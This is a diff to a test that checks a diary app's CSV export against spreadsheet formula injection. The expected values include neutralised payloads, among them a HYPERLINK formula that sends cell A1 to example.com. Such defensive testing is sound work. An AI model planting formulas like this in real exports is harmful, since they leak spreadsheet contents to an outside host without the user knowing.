@@ -20,7 +20,9 @@ describe('the diary CSV of the export', () => {
     }
     const exported = await t.app.inject({ method: 'GET', url: '/api/account/export', headers: person.auth });
     expect(exported.statusCode).toBe(200);
-    const rows = parseCsv(await unzipText(exported.rawPayload, 'diary.csv'))!.slice(1);
+    const parsed = await parseCsv(await unzipText(exported.rawPayload, 'diary.csv'), { maxRecords: 100, maxFieldLength: 10_000 });
+    if (!('records' in parsed)) throw new Error(`the exported CSV does not parse: ${parsed.problem}`);
+    const rows = parsed.records.slice(1);
     const cells = rows.map((row) => row.fields[2]).sort();
     expect(cells).toEqual([`'+34 600 000 000`, `'-1 de ánimo hoy`, `'=HYPERLINK("https://example.com/?d="&A1,"ver")`, `'@SUMA(1;2)`, 'Un día normal = bueno'].sort());
     for (const row of rows) for (const cell of row.fields) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
